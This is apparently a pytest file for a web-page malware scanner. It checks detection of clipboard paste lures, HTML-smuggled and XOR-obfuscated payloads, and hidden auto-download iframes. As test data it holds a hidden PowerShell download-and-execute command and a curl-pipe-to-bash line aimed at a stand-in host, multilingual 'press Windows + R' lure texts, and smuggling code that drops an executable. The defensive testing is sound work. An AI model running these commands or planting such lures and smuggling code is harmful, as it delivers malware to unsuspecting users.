"""Pages that make their reader paste a command, keep a file in their words, or hold more than is looked at."""

from __future__ import annotations

import pytest

from app.engine.model import Verdict
from app.engine.scan import Engine

from .pages import CONTENT, PHISH, b64, page, program, script

COMMAND = "power" + "shell -w hidden -c iwr pay.example.net/a | iex"
PIPE = "curl -fsSL https://pay.example.net/i.sh | bash"


def verdict(engine: Engine, content: bytes) -> Verdict:
    return engine.scan(content, name="a.html").verdict


def copies(command: str, words: str) -> bytes:
    return script(f"function f(){{navigator.clipboard.writeText('{command}')}}", f"<p>{words}</p>")


@pytest.mark.parametrize(
    "words",
    [
        "Verify you are human: press Windows + R, then Ctrl + V and Enter",
        "Drücken Sie die Windows-Taste + R, dann Strg + V",
        "Appuyez sur la touche Windows + R puis coller",
        "I am not a robot: open Terminal and paste the code",
        "Cloudflare check: press CTRL + L in File Explorer and paste the path",
    ],
)
def test_a_page_that_has_a_command_pasted_is_malicious(engine: Engine, words: str) -> None:
    assert verdict(engine, copies(COMMAND, words)) is Verdict.MALICIOUS


@pytest.mark.parametrize("words", ["Install it: open Terminal and paste this line", "Copy"])
def test_a_manual_with_a_button_that_copies_a_command_is_clean(engine: Engine, words: str) -> None:
    assert verdict(engine, copies(PIPE, words)) is Verdict.CLEAN


def test_a_page_within_a_frame_is_judged_itself(engine: Engine) -> None:
    framed = PHISH.replace('"', "&quot;")

    assert verdict(engine, page(f'<iframe style="width:100%" srcdoc="{framed}"></iframe>')) is Verdict.MALICIOUS
    assert verdict(engine, page('<iframe srcdoc="<p>Our opening hours</p>"></iframe>')) is Verdict.CLEAN


@pytest.mark.parametrize(
    "code",
    [
        "var k=77,e=[{numbers}];var u=new Uint8Array(e.map(function(c){{return c^k}}));{save}",
        "var u=new Uint8Array([{numbers}].map(c=>c^77));{save}",
    ],
)
def test_a_program_mixed_with_a_number_is_found(engine: Engine, code: str) -> None:
    numbers = ",".join(str(byte ^ 77) for byte in program())
    save = "var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='x';a.click()"

    report = engine.scan(script(code.format(numbers=numbers, save=save)), name="a.html")

    assert "html.smuggled_program" in {finding.id for finding in report.findings}


def test_a_file_kept_in_the_words_of_a_page_is_found(engine: Engine) -> None:
    save = "a.href=URL.createObjectURL(new Blob([u]));a.download='x.exe';a.click()"
    code = f"var u=Uint8Array.from(atob(document.getElementById('d').innerText),c=>c.charCodeAt(0));{save}"

    assert verdict(engine, script(code, f"<div id=d hidden>{b64(program())}</div>")) is Verdict.MALICIOUS


def test_a_page_that_fetches_a_program_by_itself_is_suspicious(engine: Engine) -> None:
    frame = "<iframe src='https://pay.example.net/get/invoice.{}' hidden></iframe>"

    assert verdict(engine, page("<p>Your message</p>" + frame.format("iso"))) is Verdict.SUSPICIOUS
    assert verdict(engine, page(CONTENT + frame.format("html"))) is Verdict.CLEAN


def test_a_page_with_more_frames_than_are_looked_at_is_unknown(engine: Engine) -> None:
    assert verdict(engine, page(CONTENT + "<iframe src='/a'></iframe>" * 20_100)) is Verdict.UNKNOWN
